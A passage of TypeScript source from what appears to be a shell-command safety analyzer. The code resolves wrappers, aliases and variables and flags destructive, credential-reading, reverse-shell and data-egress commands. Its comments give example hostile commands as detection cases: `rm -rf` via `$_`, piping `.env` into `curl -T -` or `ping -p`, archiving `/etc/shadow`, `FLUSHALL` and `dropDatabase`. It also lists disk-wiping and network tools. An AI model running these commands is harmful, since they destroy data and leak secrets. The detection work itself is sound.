      if (k < current.length) {
        // The catalogue knows runners too (`npx aws-cdk destroy` is `cdk destroy`): it sees both.
        runnerArgv ??= current;
        current = current.slice(k);
        continue;
      }
    }
    const options = WRAPPERS[name];
    if (options === undefined) break;
    let i = 1;
    let operands = WRAPPER_OPERANDS[name] ?? 0;
    // `sudo -s`, `sudo -i`, `doas -s` with no command start a shell, which reads standard input.
    let shell = false;
    while (i < current.length) {
      const text = current[i]!.text;
      if (name === 'env' && /^[A-Za-z_][A-Za-z0-9_]*=/.test(text)) {
        assign(walk, text.slice(0, text.indexOf('=')), {
          text: text.slice(text.indexOf('=') + 1),
          known: !current[i]!.dynamic,
        });
        i++;
      } else if (text === '--') {
        i++;
        break;
      } else if (name === 'env' && /^(?:-C|--chdir)(?:=|$)/.test(text)) {
        // `env -C dir cmd` runs cmd in dir: later relative paths resolve there.
        const dir = text.includes('=') ? text.slice(text.indexOf('=') + 1) : current[i + 1]?.text;
        if (dir !== undefined && !(text.includes('=') ? current[i]!.dynamic : current[i + 1]?.dynamic)) {
          walk.ctx = { ...walk.ctx, cwd: { ...walk.ctx.paths, workspace: normalizePath(dir, walk.ctx.cwd) } };
        }
        i += text.includes('=') ? 1 : 2;
      } else if (text.startsWith('-') && text.length > 1) {
        if (SHELL_FLAG[name]?.test(text)) shell = true;
        i += options.has(text) || clusterTakesValue(text, options) ? 2 : 1;
      } else if (operands > 0) {
        operands--;
        i++;
      } else break;
    }
    current = current.slice(i);
    if (current.length === 0 && shell) current = [{ text: 'sh', dynamic: false }];
  }
  return runnerArgv === undefined ? { argv: current } : { argv: current, runnerArgv };
}

/** Options that make a wrapper start a shell when no command follows: `sudo -s`, `sudo -iu root`, `doas -s`. */
const SHELL_FLAG: Record<string, RegExp> = {
  sudo: /^(?:-[A-Za-z]*[si][A-Za-z]*|--shell|--login)$/,
  doas: /^-[A-Za-z]*s[A-Za-z]*$/,
};

/**
 * A bundle of short options whose last letter takes a value (`-iu root`, `-Eu root`): the value
 * is the next word, as getopt reads it. A letter that takes a value mid-bundle takes the rest.
 */
function clusterTakesValue(text: string, options: ReadonlySet<string>): boolean {
  if (!/^-[A-Za-z]{2,}$/.test(text)) return false;
  for (let j = 1; j < text.length; j++) if (options.has(`-${text[j]}`)) return j === text.length - 1;
  return false;
}

function judgeCommand(words: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  if (walk.budget.commands++ >= MAX_COMMANDS) {
    overBudget(walk, `more than ${MAX_COMMANDS} commands`);
    return undefined;
  }
  // `$_` is the last word of the command before: `echo /; rm -rf "$_"`.
  const lastWord = words[words.length - 1];
  if (lastWord !== undefined) assign(walk, '_', { text: lastWord.text, known: !lastWord.dynamic });
  const before = walk.findings.length;
  const output = dispatch(words, walk, stdin);
  annotate(words, walk, before);
  // Which commands made the data, for egress (`tar czf - .env | curl -T -`); spelled out only
  // when a network tool reads it.
  if (output !== undefined && output.literal === undefined && output.producer === undefined) {
    output.producer = stdin === undefined ? { words } : { words, stdin };
  }
  return output;
}

/** Messages say what was resolved: "… (after expanding $X: rm -rf /)". */
function annotate(words: Field[], walk: Walk, from: number): void {
  if (from === walk.findings.length || !words.some((w) => w.via !== undefined)) return;
  const vias = [...new Set(words.map((w) => w.via).filter((v): v is string => v !== undefined))];
  const resolved = describeTarget(joinFields(words));
  for (let i = from; i < walk.findings.length; i++) {
    const finding = walk.findings[i]!;
    if (finding.message.includes('(after ')) continue;
    walk.findings[i] = {
      ...finding,
      message: `${finding.message} (after ${vias.slice(0, 3).map(expansionNote).join(', ')}: ${resolved})`,
    };
  }
}

/** The Go settings a command sees, where the command line set them. */
function goEnvironment(walk: Walk): Map<string, string> {
  const env = new Map<string, string>();
  for (const name of ['GOSUMDB', 'GONOSUMDB', 'GONOSUMCHECK', 'GOFLAGS', 'GOINSECURE']) {
    const value = lookup(walk, name);
    if (value?.known) env.set(name, value.text);
  }
  return env;
}

function expansionNote(via: string): string {
  return via.startsWith('$') ? `expanding ${via}` : `resolving ${via}`;
}

function dispatch(words: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  if (words.length === 0) return undefined;
  const first = words[0]!;
  // Aliases and functions defined earlier in the command.
  const alias = first.dynamic ? undefined : walk.scope.aliases?.get(first.text);
  if (alias !== undefined) {
    const inner = child(walk);
    if (!inner) return undefined;
    const expanded = splitLiteral(alias).map((text) => ({
      text,
      dynamic: false,
      via: `alias ${first.text}`,
    }));
    return judgeCommand([...expanded, ...words.slice(1)], inner, stdin);
  }
  const fn = first.dynamic ? undefined : walk.scope.functions?.get(first.text);
  if (fn !== undefined) {
    const inner = child(walk, newScope(words, walk.scope));
    if (!inner) return undefined;
    inner.scope.functions?.delete(first.text);
    return runStmt(fn, inner, stdin);
  }

  if (printsEnvironment(words)) return { unknown: 'the process environment', sensitive: ENVIRONMENT };
  const unwrapped = unwrap(words, walk);
  if (unwrapped.script) {
    runScriptField(unwrapped.script, walk, 'a wrapped command');
    return undefined;
  }
  const argv = unwrapped.argv;
  if (argv.length === 0) return undefined;
  const program = argv[0]!;
  if (program.dynamic) {
    walk.steps.push(unknownProgram(program.opaque ?? 'an expansion whose value is unknown'));
    // An unknown variable, fetched or decoded data as the program is opaque code; a path that a
    // substitution computes (`$(readlink -f …)`) names some program on this machine.
    if (program.codeLike) {
      opaque(walk, `the command name comes from ${program.opaque ?? 'an expansion whose value is unknown'}`);
    }
    judgePathsInArgs(argv.slice(1), walk);
    return { unknown: 'the output of an unknown command' };
  }
  if (program.text.includes('/')) {
    const written = writtenFile(program, walk);
    if (written) runWrittenScript(written, program.text, walk, program.text);
  }
  const windows = isWindowsLine(program, argv);
  const name = baseName(windows ? (program.raw ?? program.text) : program.text);
  const args = windows
    ? argv.slice(1).map((a) => (a.raw === undefined ? a : { ...a, text: a.raw }))
    : argv.slice(1);
  const texts = args.map((a) => a.text);

  const runner = unwrapped.runnerArgv?.map((f) => f.text) ?? [];
  // Terraform reads more arguments from TF_CLI_ARGS and TF_CLI_ARGS_<command>.
  if (/^(?:terraform|tofu)$/.test(name)) texts.push(...terraformEnvArgs(texts, walk));
  if (name === 'git') texts.splice(0, texts.length, ...withCurrentBranch(texts, walk));
  const input = inputFile(name, args, walk, stdin);
  const catalogue = input
    ? judgeCatalogue([name, ...input.rest], walk.ctx.catalogue, input.literal)
    : judgeCatalogue([name, ...texts], walk.ctx.catalogue, stdin?.literal);
  if (runner.length > 0) catalogue.push(...judgeCatalogue(runner, walk.ctx.catalogue, stdin?.literal));
  if (stdin?.literal !== undefined) catalogue.push(...judgeCommandsOnStdin(name, texts, stdin.literal, walk));
  for (const finding of catalogue) {
    if (finding.location === 'opaque code' && walk.ctx.execution.allow_opaque) continue;
    walk.findings.push(finding);
  }
  // The catalogue's own rules, where one judged the command, speak for it; guards cover the rest.
  const guarded = catalogue.length > 0 ? undefined : judgeGuards(name, texts);
  if (guarded) walk.findings.push(...guarded.findings);
  const outside = judgeSupplyChain(name, texts, walk.ctx.egress);
  // `npx github:x/y`: the runner fetched what it now runs.
  if (runner.length > 0) {
    outside.push(
      ...judgeSupplyChain(baseName(runner[0]!), [...runner.slice(1), program.text], walk.ctx.egress),
    );
  }
  if (name === 'go') outside.push(...judgeGoEnvironment(goEnvironment(walk)));
  walk.findings.push(...outside);
  // `rails runner '…'`, `manage.py shell -c '…'`: code handed to the framework, which reaches its database.
  const handed = frameworkCode(name, texts);
  if (handed !== undefined) walk.findings.push(...judgeDatabaseCode(handed));
  walk.steps.push(
    guarded
      ? { effects: guarded.effects, recognised: true }
      : outside.length > 0
        ? { effects: [{ kind: 'install', target: name }], recognised: true }
        : stepOf(name, texts, program.text.includes('/') ? program.text : undefined, catalogue, runner[0]),
  );
  // `gh auth token`, `kubectl config view --raw`: the output is a stored credential.
  const printed = printedSecret(name, texts);
  if (printed !== undefined) return { unknown: printed, sensitive: printed };
  // A disk tool's device operand is judged as destruction below, not as a path read.
  const deviceTool = /^(?:mkfs.*|mke2fs|mkswap|mkdosfs|dd|shred|wipefs|blkdiscard)$/.test(name);
  const pathArgs = deviceTool ? args.filter((a) => !isBlockDevice(a.text.replace(/^of=/, ''))) : args;
  // `tar -C / -czf x etc/shadow`, `git -C /root …`, `make -C dir`: operands resolve in that directory.
  const chdir = /^(?:tar|gtar|bsdtar|git|make|gmake)$/.test(name)
    ? args.findIndex((a) => a.text === '-C' || a.text.startsWith('--directory='))
    : -1;
  const dir =
    chdir < 0
      ? undefined
      : args[chdir]!.text === '-C'
        ? args[chdir + 1]
        : { ...args[chdir]!, text: args[chdir]!.text.slice(12) };
  if (dir !== undefined && !dir.dynamic) {
    const saved = walk.ctx;
    walk.ctx = { ...saved, cwd: { ...saved.paths, workspace: normalizePath(dir.text, saved.cwd) } };
    judgePathsInArgs(pathArgs, walk);
    walk.ctx = saved;
  } else judgePathsInArgs(pathArgs, walk);

  if (name === 'pushd') {
    walk.ctx.dirs ??= [];
    walk.ctx.dirs.unshift(walk.ctx.cwd.workspace);
  }
  if (name === 'popd' && walk.ctx.dirs?.length) {
    walk.ctx = { ...walk.ctx, cwd: { ...walk.ctx.paths, workspace: walk.ctx.dirs.shift()! } };
    return undefined;
  }
  if (name === 'dirs') {
    // `dirs -l +1`: the directory stack, the current directory first.
    const stack = [walk.ctx.cwd.workspace, ...(walk.ctx.dirs ?? [])];
    const pick = texts.find((t) => /^[+-]\d+$/.test(t));
    if (pick === undefined) return { literal: `${stack.join(' ')}\n` };
    const n = Number(pick.slice(1));
    const entry = pick.startsWith('+') ? stack[n] : stack[stack.length - 1 - n];
    return entry === undefined ? { literal: '' } : { literal: `${entry}\n` };
  }
  if (name === 'cd' || name === 'pushd') {
    // Later relative paths resolve against the new directory.
    const target = args.find((a) => !a.text.startsWith('-'));
    if (target === undefined || !target.dynamic) {
      // CDPATH: a bare relative name is looked for under its entries first (the first is taken).
      const cdpath = lookup(walk, 'CDPATH');
      const via =
        target !== undefined && cdpath?.known && cdpath.text !== '' && !/^[/.~]/.test(target.text)
          ? `${cdpath.text.split(':')[0] || '.'}/${target.text}`
          : target?.text;
      const workspace = via === undefined ? walk.ctx.paths.home : normalizePath(via, walk.ctx.cwd);
      walk.ctx = { ...walk.ctx, cwd: { ...walk.ctx.paths, workspace } };
    }
    return undefined;
  }
  if (/^(?:terraform|tofu|terragrunt)$/.test(name)) judgeSavedPlan(name, texts, walk);
  if (name === 'ln' && texts.some((t) => /^-[a-zA-Z]*s|^--symbolic$/.test(t))) rememberLink(args, walk);
  if (name === 'git') judgeGitStaging(texts, walk);
  if (/^(?:mail|mailx|s-nail|sendmail|mutt|msmtp|neomutt)$/.test(name)) judgeMailer(name, args, walk, stdin);
  judgeCloudUpload(name, texts, walk);
  if (name === 'mv') judgeMove(args, walk);
  if (name === 'rsync') judgeRsyncDelete(args, walk);
  rememberSecretCopies(name, args, walk);
  if (name === 'crontab') judgeCrontab(args, walk, stdin);
  if (SHELLS.has(name)) return judgeShell(name, args, walk, stdin);
  if (name === 'eval') {
    const script: Field = {
      text: joinFields(args),
      dynamic: args.some((a) => a.dynamic),
      ...(args.find((a) => a.opaque)?.opaque ? { opaque: args.find((a) => a.opaque)!.opaque! } : {}),
    };
    runScriptField(script, walk, 'eval');
    return undefined;
  }
  if (
    name === 'hash' &&
    args[0]?.text === '-p' &&
    args[1] &&
    args[2] &&
    !args[1].dynamic &&
    !args[2].dynamic
  ) {
    // `hash -p /bin/rm ll`: `ll` now runs /bin/rm.
    walk.scope.aliases ??= new Map();
    walk.scope.aliases.set(args[2].text, args[1].text);
    return undefined;
  }
  if (name === 'trap') {
    // `trap 'cmd' EXIT ERR …`: the command runs when the shell gets there.
    const body = args.find((a) => !a.text.startsWith('-'));
    if (body !== undefined && args.length > 1) runScriptField(body, walk, 'trap');
    return undefined;
  }
  if ((name === 'cp' || name === 'mv' || name === 'install') && walk.ctx.written.size + (stdin ? 1 : 0) > 0) {
    const operands = args.filter((a) => !a.text.startsWith('-'));
    if (operands.length === 2 && !operands.some((a) => a.dynamic)) {
      const from =
        operands[0]!.text === '/dev/stdin' || operands[0]!.text === '-'
          ? stdin
          : writtenFile(operands[0], walk);
      if (from !== undefined) remember(walk, operands[1]!.text, from);
    }
  }
  if (name === 'set') {
    // `set -- a b c` (or `set a b c`) gives $1, $2… and "$@" those words.
    const dash = args.findIndex((a) => a.text === '--');
    const from = dash >= 0 ? dash + 1 : args[0] && !/^[-+]/.test(args[0].text) ? 0 : -1;
    if (from >= 0) {
      walk.scope.positional = [
        walk.scope.positional[0] ?? { text: 'sh', dynamic: false },
        ...args.slice(from),
      ];
      walk.scope.positionalSet = true;
    }
    return undefined;
  }
  if (name === 'alias') {
    for (const arg of args) {
      const eq = arg.text.indexOf('=');
      if (eq > 0 && !arg.dynamic) {
        walk.scope.aliases ??= new Map();
        walk.scope.aliases.set(arg.text.slice(0, eq), arg.text.slice(eq + 1));
      }
    }
    return undefined;
  }
  if (name === 'source' || name === '.') {
    const file = args[0];
    const written = file?.proc ?? writtenFile(file, walk);
    if (written) runWrittenScript(written, file!.text || '<(…)', walk, name);
    else if (file?.opaque || (file?.dynamic && file.text === ''))
      opaque(walk, file.opaque ?? 'a sourced file whose path is unknown');
    if (stdin && (file?.text === '/dev/stdin' || file?.text === '-')) judgeStdinScript(stdin, walk, name);
    return undefined;
  }
  if (name === 'printf' && args[0]?.text === '-v' && args[1]) {
    const out = args.slice(2).some((a) => a.dynamic) ? undefined : printfOutput(texts.slice(2));
    assign(
      walk,
      args[1].text,
      out === undefined ? { text: '', known: false, codeLike: true } : { text: out, known: true },
    );
    return undefined;
  }
  if (name === 'read' && stdin?.found && !stdin.found.narrowed) {
    const target = args.find((a) => /^[A-Za-z_]\w*$/.test(a.text));
    const root = stdin.found.roots[0];
    if (target && root) assign(walk, target.text, { text: root.text, known: !root.dynamic });
    return undefined;
  }
  if (name === 'read' && stdin?.literal !== undefined && args.some((a) => /^-[a-zA-Z]*a/.test(a.text))) {
    // `IFS=, read -ra a <<< 'rm,-rf,/'`: the line split at IFS, as an array.
    const flag = args.findIndex((a) => /^-[a-zA-Z]*a$/.test(a.text));
    const target = flag >= 0 ? args[flag + 1] : undefined;
    if (target !== undefined && /^[A-Za-z_]\w*$/.test(target.text)) {
      const ifs = ifsOf(walk);
      const line = stdin.literal.split('\n')[0] ?? '';
      const items = line.split(new RegExp(`[${ifs.replace(/[\\\]^-]/g, '\\$&')}]+`)).filter((t) => t !== '');
      assign(walk, target.text, { text: items.join(' '), known: true, array: true, items });
    }
    return undefined;
  }
  if (name === 'read' && stdin?.literal !== undefined) {
    const names = args.filter((a) => /^[A-Za-z_]\w*$/.test(a.text) && !a.text.startsWith('-'));
    const line = (stdin.literal.split('\n')[0] ?? '').trim();
    const words = line.split(/[ \t]+/);
    for (const [k, n] of names.entries()) {
      const text = k === names.length - 1 ? words.slice(k).join(' ') : (words[k] ?? '');
      assign(walk, n.text, { text, known: true });
    }
    return undefined;
  }
  if ((name === 'mapfile' || name === 'readarray') && stdin?.literal !== undefined) {
    // `mapfile -t a <<< $'rm\n-rf\n/'`: one element a line (or a -d delimiter), as an array.
    const valued = new Set(['-d', '-n', '-O', '-s', '-u', '-C', '-c']);
    let delimiter = '\n';
    let target = 'MAPFILE';
    for (let i = 0; i < args.length; i++) {
      const text = args[i]!.text;
      if (text === '-d') delimiter = args[i + 1]?.text || '\0';
      if (valued.has(text)) i++;
      else if (!text.startsWith('-') && /^[A-Za-z_]\w*$/.test(text)) target = text;
    }
    const strip = args.some((a) => /^-[a-zA-Z]*t/.test(a.text));
    const parts = stdin.literal.split(delimiter);
    if (parts[parts.length - 1] === '') parts.pop();
    const items = parts.slice(0, MAX_ITEMS * 8).map((p) => (strip ? p : p + delimiter));
    assign(walk, target, { text: items.join(' '), known: true, array: true, items });
    return undefined;
  }
  if (name === 'read' || name === 'mapfile' || name === 'readarray') {
    for (const arg of args)
      if (/^[A-Za-z_]\w*$/.test(arg.text))
        assign(walk, arg.text, {
          text: '',
          known: false,
          ...(describeStream(stdin) ? { opaque: describeStream(stdin)! } : {}),
          // What was read from a file is that file's data: `… .env | while read h; do ping -p $h …`.
          ...(stdin?.files && stdin.files.length > 0 ? { reads: stdin.files } : {}),
        });
    return undefined;
  }
  if (
    name === 'export' ||
    name === 'declare' ||
    name === 'typeset' ||
    name === 'local' ||
    name === 'readonly'
  ) {
    for (const arg of args) {
      const m = /^([A-Za-z_]\w*)=(.*)$/s.exec(arg.text);
      if (m) assign(walk, m[1]!, { text: m[2]!, known: !arg.dynamic });
    }
    return undefined;
  }
  if (INTERPRETERS.test(name)) return judgeInterpreter(name, args, walk, stdin);
  if (AWKS.test(name)) {
    const program = args.find(
      (a, i) => !a.text.startsWith('-') && !['-F', '-v', '-f'].includes(args[i - 1]?.text ?? ''),
    );
    if (program) runInlineCode(program, 'awk', walk);
    // `gawk -f /dev/stdin <<< 'BEGIN{…}'`, `awk -f prog.awk` written earlier in the command.
    const f = args.findIndex((a) => a.text === '-f');
    if (f >= 0) {
      const file = args[f + 1];
      const source =
        file && (file.text === '-' || file.text === '/dev/stdin') ? stdin : writtenFile(file, walk);
      if (source?.literal !== undefined) runInlineCode({ text: source.literal, dynamic: false }, 'awk', walk);
    }
    return { unknown: `the output of ${name}` };
  }
  if (name === 'xargs') return judgeXargs(args, walk, stdin);
  if (name === 'find') return judgeFind(args, walk);
  if (name === 'parallel') return judgeParallel(args, walk, stdin);
  if (name === 'watch') {
    let i = 0;
    while (i < args.length && args[i]!.text.startsWith('-'))
      i += /^-(?:n|d|-interval|-differences)$/.test(args[i]!.text) && args[i]!.text !== '-d' ? 2 : 1;
    runScriptField(
      { text: joinFields(args.slice(i)), dynamic: args.slice(i).some((a) => a.dynamic) },
      walk,
      'watch',
    );
    return undefined;
  }
  if (name === 'ssh') judgeSshCommand(args, walk);
  const launched = launchedScript(name, args, walk, stdin);
  if (launched !== undefined) {
    if (Array.isArray(launched)) {
      const inner = child(walk);
      if (inner) judgeCommand(launched, inner);
    } else runScriptField(launched, walk, name);
    return { unknown: `the output of ${name}` };
  }
  judgeEmbeddedShellEscapes(name, args, walk, stdin);
  if ((name === 'docker' || name === 'podman' || name === 'nerdctl' || name === 'ctr') && args.length > 0)
    return judgeContainerTool(name, args, walk);
  if ((name === 'docker-compose' || name === 'podman-compose') && args.length > 0)
    return judgeContainerTool(name, [{ text: 'compose', dynamic: false }, ...args], walk);
  if ((name === 'kubectl' || name === 'oc') && args.some((a) => a.text === 'exec')) {
    const dash = args.findIndex((a) => a.text === '--');
    if (dash >= 0) {
      const inner = child(walk);
      if (inner) judgeCommand(args.slice(dash + 1), inner);
    }
  }
  if (name === 'openssl' && stdin?.literal !== undefined) {
    const decoded = applyFilter(name, texts, stdin.literal);
    if (decoded !== undefined) return { literal: decoded };
  }
  // Only openssl's s_client and s_time talk to the network; x509, req, dgst, enc… are local.
  if (name === 'openssl' && !/^s_(?:client|time)$/.test(texts[0] ?? '')) {
    return judgeLocal(name, args, walk, stdin);
  }
  if (name === 'ztcp' && texts[0] && !texts[0].startsWith('-')) {
    walk.findings.push(...analyzeHost(texts[0], walk.ctx.egress));
    return { socket: name };
  }
  if (NETWORK_TOOLS.has(name) || name === 'socat' || name === 'nc.traditional' || name === 'nc.openbsd') {
    return judgeNetwork(name, args, walk, stdin);
  }
  const filtered =
    stdin?.literal !== undefined
      ? applyFilter(name, texts, stdin.literal)
      : filterWrittenFile(name, args, walk);
  if (filtered !== undefined) return { literal: filtered };
  return judgeLocal(name, args, walk, stdin);
}

/**
 * Data-store shells read their commands on standard input too: `echo FLUSHALL | redis-cli`,
 * `echo 'db.dropDatabase()' | mongosh`. Each command is judged as if it were on the command line.
 */
function judgeCommandsOnStdin(name: string, texts: string[], literal: string, walk: Walk): Finding[] {
  if (/^(?:redis|valkey|keydb)-cli$/.test(name)) {
    const findings: Finding[] = [];
    for (const line of literal.split('\n').slice(0, MAX_ITEMS)) {
      const words = splitLiteral(line);
      if (words.length > 0) findings.push(...judgeCatalogue([name, ...texts, ...words], walk.ctx.catalogue));
    }
    return findings;
  }
  if (name === 'mongosh' || name === 'mongo') {
    return judgeCatalogue([name, ...texts, '--eval', literal], walk.ctx.catalogue);
  }
  return [];
}

/** Programs that only exist on Windows, whose command lines keep their backslashes. */
const WINDOWS_PROGRAMS =
  /^(?:cmd|powershell|pwsh|rd|del|erase|vssadmin|wbadmin|bcdedit|cipher|diskpart|reg|takeown|icacls|cacls|wmic|robocopy|xcopy|schtasks|wevtutil|fsutil|netsh|[A-Z][a-z]+-[A-Z][A-Za-z]+)$/i;

/**
 * A command line a POSIX shell would not run: a Windows program, or a Windows path written
 * with backslashes. Its words are judged as written, not as a POSIX shell would unescape them.
 */
function isWindowsLine(program: Field, argv: readonly Field[]): boolean {
  const name = baseName(program.raw ?? program.text).replace(/\.(?:exe|com)$/i, '');
  if (WINDOWS_PROGRAMS.test(name)) return true;
  return argv.some((a) => a.raw !== undefined && /^[A-Za-z]:\\|^\\\\|\\Windows\\/i.test(a.raw));
}

const ENVIRONMENT = 'the process environment (where secrets such as API keys live)';

/** `env`, `printenv`, `set`, `export -p`, `declare -x`: commands that print every variable. */
function printsEnvironment(words: readonly Field[]): boolean {
  const name = baseName(words[0]?.text ?? '');
  const rest = words.slice(1).map((w) => w.text);
  if (name === 'env' || name === 'printenv') {
    return rest.every((t) => t.startsWith('-') || (name === 'env' && /^[A-Za-z_]\w*=/.test(t)));
  }
  if (name === 'set') return rest.length === 0;
  if (name === 'export' || name === 'declare' || name === 'typeset')
    return rest.length === 0 || rest.every((t) => /^-[px]+$/.test(t));
  return false;
}

function splitLiteral(text: string): string[] {
  return splitWords(text).flatMap((c) => c.words.map((w) => w.text));
}

function judgeLocal(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  const texts = args.map((a) => a.text);
  switch (name) {
    case 'echo':
      return args.some((a) => a.dynamic)
        ? { unknown: 'printed text with unknown expansions' }
        : { literal: echoOutput(texts) };
    case 'printf': {
      const out = args.some((a) => a.dynamic) ? undefined : printfOutput(texts);
      return out === undefined ? { unknown: 'printed text with unknown expansions' } : { literal: out };
    }
    case 'cat':
    case 'tac':
    case 'head':
    case 'tail':
    case 'less':
    case 'more': {
      const files = texts.filter((t) => !t.startsWith('-') || t === '-');
      if (files.length === 0 || (files.length === 1 && files[0] === '-')) return stdin;
      return { files };
    }
    case 'base64':
    case 'base32':
    case 'basenc':
    case 'xxd':
    case 'rev':
    case 'tr':
    case 'openssl':
    case 'gunzip':
    case 'zcat':
    case 'gzip':
    case 'bzcat':
    case 'xzcat': {
      const files = name === 'tr' || name === 'openssl' ? [] : texts.filter((t) => !t.startsWith('-'));
      const source = files.length > 0 ? { files } : stdin;
      return {
        unknown: `data decoded by ${name}`,
        decoded: !/zcat|gunzip|gzip/.test(name),
        ...(source?.files ? { files: source.files } : {}),
        ...(source?.fetched ? { fetched: source.fetched } : {}),
        ...(source?.sensitive ? { sensitive: source.sensitive } : {}),
      };
    }
    case 'tee': {
      const append = texts.some((t) => t === '-a' || t === '--append');
      for (const t of texts) if (!t.startsWith('-')) remember(walk, t, stdin, append);
      return stdin;
    }
    case 'pwd':
      return { literal: `${walk.ctx.cwd.workspace}\n` };
    case 'ls': {
      // What ls lists is every entry of its directories: fed to xargs rm, the directories empty.
      const dirs = args.filter((a) => !a.text.startsWith('-'));
      const roots = (dirs.length === 0 ? [{ text: '.', dynamic: false }] : dirs).map((d) => ({
        ...d,
        text: `${d.text.replace(/\/+$/, '')}/*`,
      }));
      // `ls *.log` lists the files a pattern matched, not everything.
      return { found: { roots, narrowed: dirs.some((d) => /[*?[]/.test(d.text)) } };
    }
    case 'tar':
    case 'zip':
    case '7z':
    case 'gpg':
    case 'pg_dump':
    case 'pg_dumpall':
    case 'mysqldump':
    case 'mariadb-dump':
    case 'mongodump':
    case 'sqlite3': {
      // Archives and dumps print what they read: the files named, or a database.
      const files = texts.filter((t) => !t.startsWith('-') && !/^[cxtzvjfpr]+$/.test(t));
      const dump = /dump/.test(name) || (name === 'sqlite3' && texts.some((t) => t === '.dump'));
      return {
        unknown: `the output of ${name}`,
        files: dump ? [`${files[0] ?? 'database'}.sql`] : files,
      };
    }
    case 'rm':
    case 'rmdir':
    case 'unlink':
    case 'rimraf':
      judgeRm(name, args, walk);
      return undefined;
    case 'dd':
      for (const arg of args) {
        if (arg.text.startsWith('of=') && isBlockDevice(arg.text.slice(3))) {
          destructive(walk, 'dd writes over a block device', 'command "dd"');
        }
      }
      return undefined;
    case 'shred':
    case 'wipefs':
    case 'blkdiscard':
      if (args.some((a) => isBlockDevice(a.text)) || name !== 'shred') {
        destructive(walk, `${name} destroys a block device`, `command "${name}"`);
      }
      return undefined;
    case 'chmod':
    case 'chown':
    case 'chgrp':
      judgeRecursiveOwnership(name, args, walk);
      return undefined;
    case 'mkfifo':
    case 'true':
    case 'false':
    case ':':
      return undefined;
    default:
      if (/^mkfs(\.|$)|^mke2fs$|^mkswap$|^mkdosfs$/.test(name)) {
        destructive(walk, `${name} formats a file system`, `command "${name}"`);
      }
      return withSensitiveOperands({ unknown: `the output of ${name}` }, texts);
  }
}

// ------------------------------------------------------------------------------ nested code

function runScriptField(script: Field, walk: Walk, how: string): void {
  if (script.dynamic) {
    // Parts that are known are still judged: `eval "rm -rf $X"` with X unknown.
    if (script.text.trim() !== '') analyzeScript(script.text, walk);
    opaque(walk, script.opaque ?? `${how} of text built from unknown expansions`);
    return;
  }
  analyzeScript(script.text, walk);
}

/**
 * What a program prints may carry the secrets it read: `uuencode .env x`, `perl -ne … .env`,
 * `jq . .env.json`. A downstream upload or mail sees those files.
 */
function withSensitiveOperands(stream: Stream, texts: readonly string[]): Stream {
  const files = texts.filter((t) => !t.startsWith('-') && sensitiveFileKind(t) !== undefined);
  return files.length === 0 ? stream : { ...stream, files: [...(stream.files ?? []), ...files] };
}

/** `base64 -d p`, `sed 's/x//' f`: a filter whose input is a file written earlier in the command. */
function filterWrittenFile(name: string, args: Field[], walk: Walk): string | undefined {
  if (walk.ctx.written.size === 0 || args.length === 0) return undefined;
  const last = args[args.length - 1]!;
  if (last.text.startsWith('-')) return undefined;
  const content = writtenFile(last, walk);
  if (content?.literal === undefined) return undefined;
  return applyFilter(
    name,
    args.slice(0, -1).map((a) => a.text),
    content.literal,
  );
}

/** A script file written earlier in the command line is judged as the code it holds. */
function runWrittenScript(content: Stream, path: string, walk: Walk, how: string): void {
  const inner = child(walk);
  if (!inner) return;
  if (content.literal !== undefined) {
    // A shebang picks the interpreter; anything else runs as a shell script.
    const shebang = /^#!\s*(?:\S*\/)?(?:env\s+)?(\S+)/.exec(content.literal);
    const language = shebang ? languageOf(shebang[1]!) : 'other';
    if (shebang && language !== 'other')
      runInlineCode({ text: content.literal, dynamic: false }, language, inner);
    else analyzeScript(content.literal, inner);
    return;
  }
  judgeStdinScript(content, inner, `${how} (written to ${path} earlier in the command)`);
}

function judgeStdinScript(stdin: Stream, walk: Walk, how: string): void {
  if (stdin.literal !== undefined) {
    analyzeScript(stdin.literal, walk);
    return;
  }
  if (stdin.socket) {
    reverseShell(walk, `${how} runs what ${stdin.socket} receives`);
    return;
  }
  if (stdin.fetched) {
    const host = stdin.fetched.host ?? hostOf(stdin.fetched.url);
    if (host !== undefined && isTrustedHost(host, walk.ctx.egress)) return;
    opaque(walk, `${how} runs ${describeStream(stdin)}, a host the account does not trust`);
    return;
  }
  if (stdin.files && !stdin.unknown) return;
  if (stdin.unknown) opaque(walk, `${how} runs ${stdin.unknown}`);
}

function hostOf(url: string | undefined): string | undefined {
  if (url === undefined) return undefined;
  try {
    return new URL(url).hostname;
  } catch {
    return undefined;
  }
}

/**
 * What a shell runs before its script: `BASH_ENV` (bash, not interactive), `ENV` (sh -i),
 * `PROMPT_COMMAND` (interactive bash), `--rcfile`/`--init-file`.
 */
function judgeStartupHooks(name: string, args: Field[], walk: Walk): void {
  const interactive = args.some((a) => a.text === '-i' || /^-[a-zA-Z]*i[a-zA-Z]*$/.test(a.text));
  const hooks: { file?: Field; script?: Value; what: string }[] = [];
  const rc = args.findIndex((a) => a.text === '--rcfile' || a.text === '--init-file');
  if (rc >= 0 && args[rc + 1]) hooks.push({ file: args[rc + 1]!, what: args[rc]!.text });
  const bashEnv = name === 'bash' && !interactive ? lookup(walk, 'BASH_ENV') : undefined;
  if (bashEnv !== undefined)
    hooks.push({ file: { text: bashEnv.text, dynamic: !bashEnv.known }, what: 'BASH_ENV' });
  const env = interactive && name !== 'bash' ? lookup(walk, 'ENV') : undefined;
  if (env !== undefined) hooks.push({ file: { text: env.text, dynamic: !env.known }, what: 'ENV' });
  const prompt = interactive && name === 'bash' ? lookup(walk, 'PROMPT_COMMAND') : undefined;
  if (prompt !== undefined) hooks.push({ script: prompt, what: 'PROMPT_COMMAND' });
  for (const hook of hooks) {
    if (hook.script !== undefined) {
      runScriptField(
        {
          text: hook.script.text,
          dynamic: !hook.script.known,
          ...(hook.script.opaque ? { opaque: hook.script.opaque } : {}),
        },
        walk,
        hook.what,
      );
      continue;
    }
    const content = hook.file!.proc ?? writtenFile(hook.file, walk);
    if (content !== undefined)
      runWrittenScript(content, hook.file!.text || '<(…)', walk, `${name} ${hook.what}`);
    else if (hook.file!.dynamic || hook.file!.opaque)
      opaque(walk, hook.file!.opaque ?? `${hook.what} names a file whose path is unknown`);
  }
}

function judgeShell(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  judgeStartupHooks(name, args, walk);
  let i = 0;
  let interactive = false;
  while (i < args.length) {
    const text = args[i]!.text;
    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(text)) {
      const script = args[i + 1];
      if (!script) return undefined;
